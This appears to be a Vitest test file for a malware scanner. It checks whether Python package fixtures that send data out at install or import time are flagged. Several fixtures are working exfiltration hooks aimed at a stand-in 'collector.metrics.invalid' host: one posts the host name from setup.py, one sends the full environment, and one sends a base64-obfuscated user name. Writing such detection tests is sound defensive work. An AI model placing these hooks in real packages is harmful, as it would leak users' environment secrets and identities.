import { expect, test } from 'vitest';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

test('the host name that is posted at install is malware at the line of the request', async () => {
  const file = sdist({
    'setup.py': python(
      'import socket',
      'import requests',
      'from setuptools import setup',
      'name = socket.gethostname()',
      "requests.post('https://collector.metrics.invalid/a', data={'n': name})",
      "setup(name='example')",
    ),
  });

  const findings = await inspect('exfiltration', file);

  expect(findings).toMatchObject([
    { class: 'malware', score: 10, context: 'install', path: 'example-1.0.0/setup.py', line: 5 },
  ]);
  expect(findings[0]?.chain).toContainEqual(expect.objectContaining({ role: 'source', line: 4 }));
});

test('the whole environment in the query of an import-time request is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import json, os',
      'import urllib.parse, urllib.request',
      "text = urllib.parse.urlencode({'e': json.dumps(dict(os.environ))})",
      "urllib.request.urlopen('https://collector.metrics.invalid/?' + text)",
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([
    { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 4 },
  ]);
});

test('an environment that is handed to a child process does not leave the machine', async () => {
  const file = sdist({
    'setup.py': python(
      'import os, subprocess',
      'from setuptools import setup',
      'env = os.environ.copy()',
      "env['CFLAGS'] = '-O2'",
      "subprocess.check_call(['make', '-C', 'native'], env=env)",
      "setup(name='example')",
    ),
  });

  expect(await inspect('exfiltration', file)).toEqual([]);
});

test('a client that authenticates with its own variable when it is called is silent', async () => {
  const file = wheel({
    'pkg/client.py': python(
      'import os',
      'import requests',
      'class Client:',
      '    def __init__(self):',
      "        self.token = os.environ['SERVICE_TOKEN']",
      '    def list(self):',
      "        return requests.get('https://api.service.invalid/v1', headers={'Authorization': self.token})",
    ),
  });

  expect(await inspect('exfiltration', file)).toEqual([]);
});

test('a user name that passes through a class, base64 and an alias is still found', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64 as b, getpass',
      'from urllib import request as r',
      'class Report:',
      '    def __init__(self, who):',
      '        self.who = who',
      '    def packed(self):',
      '        return b.b64encode(self.who.encode()).decode()',
      'def send(text):',
      "    r.urlopen('https://collector.' + 'metrics.invalid/' + text)",
      'send(Report(getpass.getuser()).packed())',
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([
    { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 9 },
  ]);
});
